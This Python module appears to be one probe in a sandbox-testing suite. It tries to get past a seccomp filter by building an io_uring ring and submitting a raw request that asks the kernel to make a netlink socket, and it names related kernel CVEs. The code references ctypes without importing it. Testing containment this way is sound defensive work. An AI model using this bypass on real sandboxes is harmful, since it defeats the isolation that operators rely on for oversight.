"""Make a socket that seccomp forbids through io_uring.

Technique: what is asked for through a ring of io_uring is done by the kernel without passing the seccomp filter: files opened,
    sockets made. Its own bugs are many as well (CVE-2021-41073, CVE-2022-29582, CVE-2023-2598, CVE-2024-0582).
Success: a ring is made; at best, a netlink socket comes out of it.
Stopped by: seccomp
"""
import mmap
import socket
import struct

OP_SOCKET = 45
GETEVENTS = 1


def attack():
    # The two other calls need no ring to show that they are there.
    for call, arguments in (("io_uring_register", (-1, 0, None, 0)), ("io_uring_enter", (-1, 0, 0, 0, None, 0))):
        came = answer(syscall, call, *arguments)
        if came not in ("ENOSYS", "EPERM"):
            return f"{call} answered {came}; {answer(with_a_ring)}"
    return with_a_ring()


def with_a_ring():
    parameters_of_ring = ctypes.create_string_buffer(120)
    ring = syscall("io_uring_setup", 4, parameters_of_ring)
    sq_entries, cq_entries = struct.unpack_from("=2I", parameters_of_ring)
    # Offsets in the rings: head, tail, mask, entries, flags, dropped, array; and head, tail, mask, entries, overflow, entries themselves.
    _, sq_tail, _, _, _, _, sq_array = struct.unpack_from("=7I", parameters_of_ring, 40)
    _, _, _, _, _, cqes = struct.unpack_from("=6I", parameters_of_ring, 80)
    submissions = mmap.mmap(ring, sq_array + 4 * sq_entries, offset=0)
    completions = mmap.mmap(ring, cqes + 16 * cq_entries, offset=0x800_0000)
    entries = mmap.mmap(ring, 64 * sq_entries, offset=0x1000_0000)
    # struct io_uring_sqe of a socket: its family for the descriptor, its type for the offset, its protocol for the length.
    entries[:64] = struct.pack("=BBHiQQIIQ", OP_SOCKET, 0, 0, socket.AF_NETLINK, socket.SOCK_RAW, 0, 0, 0, 1).ljust(64, b"\0")
    submissions[sq_array : sq_array + 4] = struct.pack("=I", 0)
    submissions[sq_tail : sq_tail + 4] = struct.pack("=I", 1)
    answer(syscall, "io_uring_enter", ring, 1, 1, GETEVENTS, None, 0)
    _, result = struct.unpack_from("=Qi", completions, cqes)
    if result > 2:
        return f"a ring gave a socket of family {socket.socket(fileno=result).family}"
    return f"a ring was made (and answered {result})"


def twin():
    """Waiting for several things at once by epoll, which is what event loops use where there is no ring."""
    import asyncio

    async def both():
        return await asyncio.gather(asyncio.sleep(0.01, "one"), asyncio.to_thread(lambda: "two"))

    assert asyncio.run(both()) == ["one", "two"]
